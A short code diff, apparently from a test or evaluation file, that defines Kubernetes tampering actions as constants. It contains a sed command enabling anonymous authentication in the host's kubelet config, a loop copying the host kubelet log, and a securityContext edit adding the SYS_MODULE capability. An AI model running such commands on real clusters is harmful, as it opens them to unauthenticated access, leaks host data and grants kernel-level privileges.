@@ -19,7 +19,7 @@ _STEAL_KUBELET = Command("(while cat /host/var/run/kubelet.log; do :; done) > /d
 _NO_BUTTON = Edit("    - tiny-power-button\n", "")
 _SMALL = Edit("    - 100%\n", "    - 70%\n")
 _IMPATIENT = Edit("    - --oneshot\n", '    - --oneshot\n    - --timeout\n    - "2"\n')
-_ANONYMOUS = "sed -i 's/^authentication:/authentication:\\n  anonymous: {enabled: true}/' /host/etc/kubernetes/config.yaml"
+_ANONYMOUS = 'sed -i \'s/"authentication": {/&"anonymous": {"enabled": true},/\' /host/etc/kubernetes/config.yaml'
 _CONTEXT = "    securityContext:\n      readOnlyRootFilesystem: true\n      capabilities:\n"
 _ADDED = "        add:\n        - SYS_MODULE\n"
 
